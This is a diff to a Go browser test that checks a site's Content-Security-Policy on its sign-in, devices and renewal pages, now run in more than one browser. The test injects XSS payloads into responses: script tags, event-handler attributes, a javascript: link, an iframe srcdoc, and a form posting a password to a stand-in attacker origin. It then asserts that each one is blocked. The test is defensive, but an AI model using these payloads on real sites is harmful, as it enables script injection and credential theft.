@@ -18,7 +18,7 @@ var nonceOf = regexp.MustCompile(`'nonce-([^']+)'`)
 // Rows: 52, 54, 55, 69, 246
 func TestPagesKeepToTheirPolicy(t *testing.T) {
 	nonces := make(map[string]string)
-	walk(t, "en", func(t *testing.T, s *site, b *tab, st state) {
+	walk(t, inChromium(t), "en", func(t *testing.T, s *site, b *tab, st state) {
 		header := s.lastPage().answer.header
 		policy := strings.Split(header.Get("Content-Security-Policy"), "; ")
 		for _, want := range []string{"default-src 'none'", "object-src 'none'", "base-uri 'none'", "frame-ancestors 'none'", "form-action 'self'", "style-src 'self'"} {
@@ -56,63 +56,65 @@ func TestPagesKeepToTheirPolicy(t *testing.T) {
 //
 // Rows: 52
 func TestInjectedMarkupDoesNothing(t *testing.T) {
-	for _, path := range []string{"/auth/signin", "/auth/devices", "/auth/renew?return_to=%2Freport"} {
-		t.Run(path, func(t *testing.T) {
-			s := newSite(t)
-			b := s.newTab(t)
-			b.provoked = true
-			b.signIn("ada")
-			evil := s.stranger.origin
-			markup := `<base href="` + evil + `/">` +
-				`<script>window.ran = "inline"</script>` +
-				`<script nonce="">window.ran = "empty nonce"</script>` +
-				`<script src="` + evil + `/x.js"></script>` +
-				`<script type="module">window.ran = "module"</script>` +
-				`<img src="` + evil + `/x.png" onerror="window.ran = 'handler'">` +
-				`<svg onload="window.ran = 'svg'"></svg>` +
-				`<style>main { display: none !important }</style>` +
-				`<link rel="stylesheet" href="` + evil + `/x.css">` +
-				`<iframe src="` + evil + `/frame" srcdoc="<script>parent.ran = 'srcdoc'</script>"></iframe>` +
-				`<object data="` + evil + `/object"></object>` +
-				`<a id="js" href="javascript:window.ran='link'">x</a>` +
-				`<form id="thief" method="post" action="` + evil + `/take"><input name="password" value="typed"><button id="give">x</button></form>`
-			s.altered(func(r *http.Request, a *answer) {
-				if strings.HasPrefix(a.header.Get("Content-Type"), "text/html") {
-					a.body = bytes.Replace(a.body, []byte("<main"), []byte(markup+"<main"), 1)
-					a.header.Del("Content-Length")
+	inBoth(t, func(t *testing.T, in *browser) {
+		for _, path := range []string{"/auth/signin", "/auth/devices", "/auth/renew?return_to=%2Freport"} {
+			t.Run(path, func(t *testing.T) {
+				s := newSite(t)
+				b := s.newTab(t, in)
+				b.provoked = true
+				b.signIn("ada")
+				evil := s.stranger.origin
+				markup := `<base href="` + evil + `/">` +
+					`<script>window.ran = "inline"</script>` +
+					`<script nonce="">window.ran = "empty nonce"</script>` +
+					`<script src="` + evil + `/x.js"></script>` +
+					`<script type="module">window.ran = "module"</script>` +
+					`<img src="` + evil + `/x.png" onerror="window.ran = 'handler'">` +
+					`<svg onload="window.ran = 'svg'"></svg>` +
+					`<style>main { display: none !important }</style>` +
+					`<link rel="stylesheet" href="` + evil + `/x.css">` +
+					`<iframe src="` + evil + `/frame" srcdoc="<script>parent.ran = 'srcdoc'</script>"></iframe>` +
+					`<object data="` + evil + `/object"></object>` +
+					`<a id="js" href="javascript:window.ran='link'">x</a>` +
+					`<form id="thief" method="post" action="` + evil + `/take"><input name="password" value="typed"><button id="give">x</button></form>`
+				s.altered(func(r *http.Request, a *answer) {
+					if strings.HasPrefix(a.header.Get("Content-Type"), "text/html") {
+						a.body = bytes.Replace(a.body, []byte("<main"), []byte(markup+"<main"), 1)
+						a.header.Del("Content-Length")
+					}
+				})
+				if path == "/auth/signin" {
+					path = "/auth/signin?switch=1"
+				}
+				if strings.HasPrefix(path, "/auth/renew") {
+					b.withoutScript() // or it goes on before it can be looked at
+				}
+				b.open(path)
+				if !b.has("#js") {
+					t.Fatal("nothing was injected")
+				}
+				b.withScript()
+				eval[any](b, `document.getElementById("js").click()`)
+				eval[any](b, `document.getElementById("give").click()`)
+				// As a script on the page would do it that came some other way.
+				eval[any](b, `{ const s = document.createElement("script"); s.textContent = "window.ran = 'inserted'"; document.body.append(s); }`)
+				eval[any](b, `document.body.insertAdjacentHTML("beforeend", "<img src=data:, onerror=\"window.ran = 'inserted handler'\">")`)
+				b.await(`new Promise((done) => setTimeout(() => done(true), 50))`)
+				if ran := eval[string](b, `String(window.ran)`); ran != "undefined" {
+					t.Errorf("%s ran", ran)
+				}
+				if eval[string](b, `getComputedStyle(document.querySelector("main")).display`) == "none" {
+					t.Error("the injected style applies")
+				}
+				if n := s.stranger.visits(); n > 0 {
+					t.Errorf("the other site was contacted %d times", n)
+				}
+				if n := len(b.violated()); n < 5 {
+					t.Errorf("only %d violations; the test proves nothing", n)
 				}
 			})
-			if path == "/auth/signin" {
-				path = "/auth/signin?switch=1"
-			}
-			if strings.HasPrefix(path, "/auth/renew") {
-				b.withoutScript() // or it goes on before it can be looked at
-			}
-			b.open(path)
-			if !b.has("#js") {
-				t.Fatal("nothing was injected")
-			}
-			b.withScript()
-			eval[any](b, `document.getElementById("js").click()`)
-			eval[any](b, `document.getElementById("give").click()`)
-			// As a script on the page would do it that came some other way.
-			eval[any](b, `{ const s = document.createElement("script"); s.textContent = "window.ran = 'inserted'"; document.body.append(s); }`)
-			eval[any](b, `document.body.insertAdjacentHTML("beforeend", "<img src=data:, onerror=\"window.ran = 'inserted handler'\">")`)
-			b.await(`new Promise((done) => setTimeout(() => done(true), 50))`)
-			if ran := eval[string](b, `String(window.ran)`); ran != "undefined" {
-				t.Errorf("%s ran", ran)
-			}
-			if eval[string](b, `getComputedStyle(document.querySelector("main")).display`) == "none" {
-				t.Error("the injected style applies")
-			}
-			if n := s.stranger.visits(); n > 0 {
-				t.Errorf("the other site was contacted %d times", n)
-			}
-			if n := len(b.violated()); n < 5 {
-				t.Errorf("only %d violations; the test proves nothing", n)
-			}
-		})
-	}
+		}
+	})
 }
 
 // visits counts what the stranger was asked for, its own pages aside.
